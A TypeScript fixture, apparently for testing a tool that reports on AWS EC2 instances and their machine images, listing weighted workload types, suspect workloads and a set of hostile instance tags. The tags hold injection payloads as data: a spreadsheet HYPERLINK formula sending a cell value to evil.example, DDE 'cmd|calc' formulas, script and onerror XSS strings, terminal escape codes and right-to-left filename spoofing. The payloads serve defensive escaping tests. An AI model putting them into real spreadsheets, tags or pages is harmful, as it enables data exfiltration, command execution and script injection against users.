import type {FamilyName} from './image-families.ts';

/** A kind of instance that people run: how it is named, tagged and sized, and from which image. */
export type Workload = {
	readonly role: string;
	readonly family: FamilyName;
	readonly types: readonly [string, ...string[]];
	readonly team: string;
	/** Whether an Auto Scaling group keeps it on the newest images. */
	readonly scaling?: true;
	/** The AWS service that manages it. */
	readonly operator?: string;
	/** From the newest image but so many on; the newest itself may be one that nobody runs yet. */
	readonly skipBuilds?: number;
};

/** What most instances are, with how common they are. */
export const everyday: ReadonlyArray<readonly [weight: number, workload: Workload]> = [
	[
		22,
		{
			role: 'web',
			family: 'web-app',
			types: ['m7i.large', 'm7i.xlarge', 'c7i.large'],
			team: 'storefront',
			scaling: true,
		},
	],
	[12, {role: 'api', family: 'golden', types: ['c7i.xlarge', 'c7i.2xlarge'], team: 'platform', scaling: true}],
	[
		16,
		{
			role: 'eks-node',
			family: 'eks-node',
			types: ['m7i.2xlarge', 'm7a.2xlarge'],
			team: 'platform',
			scaling: true,
			operator: 'eks.amazonaws.com',
		},
	],
	[7, {role: 'ecs-node', family: 'ecs-node', types: ['t3.large', 'm6i.large'], team: 'payments', scaling: true}],
	[9, {role: 'worker', family: 'amazon-linux-2023', types: ['c7i.large', 'm7i.large'], team: 'orders', scaling: true}],
	[6, {role: 'cache', family: 'amazon-linux-2023-arm', types: ['r7g.large', 'r7g.xlarge'], team: 'orders'}],
	[8, {role: 'search', family: 'ubuntu-noble', types: ['r6i.xlarge', 'i4i.xlarge'], team: 'search'}],
	[3, {role: 'reporting', family: 'ubuntu-focal', types: ['m5.xlarge'], team: 'finance'}],
	[3, {role: 'db', family: 'red-hat-9', types: ['r6i.2xlarge', 'r6i.4xlarge'], team: 'finance'}],
	[4, {role: 'ad-dc', family: 'windows-2022', types: ['m6i.large', 't3.xlarge'], team: 'it'}],
	[3, {role: 'legacy-billing', family: 'amazon-linux-2', types: ['m5.large', 't2.large'], team: 'finance'}],
	[1, {role: 'ftp', family: 'amazon-linux-1', types: ['t2.micro', 'm4.large'], team: 'it'}],
	[1, {role: 'firewall', family: 'palo-alto', types: ['m5.xlarge'], team: 'network'}],
	[2, {role: 'vault', family: 'cis-hardened', types: ['t3.medium'], team: 'security'}],
	[1, {role: 'old-ci', family: 'retired-own', types: ['m4.xlarge'], team: 'platform'}],
];

/** Those that criteria tend to catch, by the name that Regions use. */
export const suspects = {
	restored: {role: 'restored-db', family: 'backup-restore', types: ['r6i.xlarge'], team: 'finance'},
	platform: {role: 'ingest', family: 'platform-base', types: ['m7i.large', 'm7i.xlarge'], team: 'data'},
	gpu: {role: 'train', family: 'platform-gpu', types: ['g6.xlarge', 'g5.2xlarge'], team: 'ml'},
	spark: {
		role: 'spark-worker',
		family: 'spark-worker',
		types: ['r6i.4xlarge', 'r6i.8xlarge'],
		team: 'data',
		skipBuilds: 1,
	},
	sparkGone: {role: 'spark-history', family: 'spark-gone', types: ['r5.xlarge'], team: 'data'},
	forgotten: {role: 'do-not-touch', family: 'forgotten', types: ['m3.medium'], team: 'unknown'},
	debian: {role: 'runner', family: 'debian', types: ['c6a.xlarge', 'c7a.xlarge'], team: 'ci'},
	rocky: {role: 'hpc', family: 'rocky', types: ['hpc7a.12xlarge', 'c7a.8xlarge'], team: 'research'},
	flatcar: {role: 'k8s-edge', family: 'flatcar', types: ['m6a.large'], team: 'edge'},
	imitation: {role: 'jumpbox', family: 'ubuntu-imitation', types: ['t3.micro'], team: 'it'},
	contractor: {role: 'acme-bastion', family: 'contractor', types: ['t3.small'], team: 'it'},
} as const satisfies Readonly<Record<string, Workload>>;

export type SuspectName = keyof typeof suspects;

/** Tags as nobody wants them and everybody meets them: each may sit on any instance. */
export const hostileTags: ReadonlyArray<ReadonlyArray<readonly [key: string, value: string]>> = [
	[['Name', 'red \u{9B}31malert\u{9B}0m \\u001b[2J']],
	[
		['Name', 'invoice\u{202E}gnp.exe'],
		['Note', '\u{2066}isolated\u{2069} \u{200B}zero\u{200B}width'],
	],
	[
		['Name', '=HYPERLINK("https://evil.example/?c="&A1,"open")'],
		['Formula', "@SUM(1+1)*cmd|' /C calc'!A0"],
	],
	[['Name', '<script>alert("ami")</script><img src=x onerror=alert(1)>']],
	[
		['Name', '🚀 prod 👩‍💻 web'],
		['Owner', 'Zoë Łukasz'],
	],
	[
		['Name', '東京データベース主系'],
		['環境', '本番'],
	],
	[
		['Name', 'two\nlines\tand a tab'],
		['Pipe', 'a | b | `c`'],
	],
	[
		['Name', '-2+3+cmd|calc'],
		['', 'an empty key'],
		['empty', ''],
	],
	[
		['Name', ' leading and trailing '],
		['constructor', '__proto__'],
		['Quote', '"a","b"'],
	],
	[['Name', 'x'.repeat(255)]],
];
